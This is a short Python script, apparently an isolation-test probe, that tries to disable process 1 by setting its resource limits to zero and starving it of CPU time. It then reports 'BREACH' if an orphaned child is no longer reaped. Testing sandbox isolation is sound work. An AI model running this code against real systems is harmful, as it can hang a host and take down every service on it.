import os
import resource
import subprocess
import time

from vault import serve

# The kernel lets one process of a user set another's limits, and its priority.
changed = []
for name in ("NOFILE", "NPROC", "FSIZE", "AS", "DATA", "STACK", "SIGPENDING", "MEMLOCK", "CORE"):
    try:
        resource.prlimit(1, getattr(resource, f"RLIMIT_{name}"), (0, 0))
        changed.append(name)
    except OSError:
        continue
for change in (
    lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
    lambda: os.sched_setaffinity(1, {max(os.sched_getaffinity(0))}),
    lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
):
    try:
        change()
        changed.append("its turn")
    except OSError:
        continue
print(f"TRIED {', '.join(changed)}", flush=True)

orphan = int(subprocess.check_output(["/bin/sh", "-c", "sleep 0.2 >/dev/null & echo $!"]))
time.sleep(0.8)
if os.path.exists(f"/proc/{orphan}"):
    print("BREACH process 1 does not work any more", flush=True)
serve()
